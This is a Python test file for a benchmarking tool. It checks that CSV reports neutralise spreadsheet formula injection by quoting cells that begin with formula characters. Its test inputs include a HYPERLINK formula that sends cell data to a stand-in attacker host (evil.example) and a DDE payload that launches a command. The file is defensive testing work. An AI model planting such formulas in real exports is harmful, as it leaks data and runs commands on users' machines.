"""CSV exports never hand a spreadsheet a formula: a cell beginning with = + - @, a tab
or a carriage return is written with a leading ' (OWASP's rule), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from tests.analysis_runs import add_run, scenario_doc
from vbench.cli.parse_cmds import _render
from vbench.report.build import render_report
from vbench.report.exports import csv_cell, csv_frame
from vbench.results.store import Store

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-1.5", "-1.5"),
        ("+4", "+4"),
        ("-2e-3", "-2e-3"),
        (-1.5, -1.5),
        (7, 7),
        (None, None),
        ("4k", "4k"),
        ("a=b", "a=b"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value: Any, written: Any) -> None:
    assert csv_cell(value) == written


def test_report_csv_neutralises_labels_and_keeps_negative_numbers(tmp_path: Path) -> None:
    sc = scenario_doc("inj", {"bs": ["4k", FORMULA]})
    with Store.open(f"sqlite:///{tmp_path}/s.db", tmp_path) as store:
        run = add_run(store, "20270101-000000-00000001", [
            ({"bs": "4k"}, {"ops": [-1.5, -1.5, -1.5]}),
            ({"bs": FORMULA}, {"ops": [2.0, 2.5, 3.0]}),
        ], scenario=sc)  # fmt: skip
        text = render_report(store, [run], "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["bs"] for r in rows} == {"4k", "'" + FORMULA}
    # A raw formula never starts a cell of the file.
    for line in text.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "@", "+")), cell
    neg = next(r for r in rows if r["bs"] == "4k" and r["metric"] == "ops")
    assert float(neg["mean"]) == pytest.approx(-1.5) and neg["mean"].startswith("-")


def test_parse_and_samples_csv_neutralise_text_cells() -> None:
    text = _render([{"object": FORMULA, "value": -2.0}], "csv")
    assert text.splitlines()[1].startswith(f"\"'{FORMULA[:3]}") and text.endswith(",-2.0\n")
    frame = pd.DataFrame({"guest": ["g1", "@x"], "value": [-1.0, 2.0]})
    out = csv_frame(frame).to_csv(index=False)
    assert out.splitlines() == ["guest,value", "g1,-1.0", "'@x,2.0"]
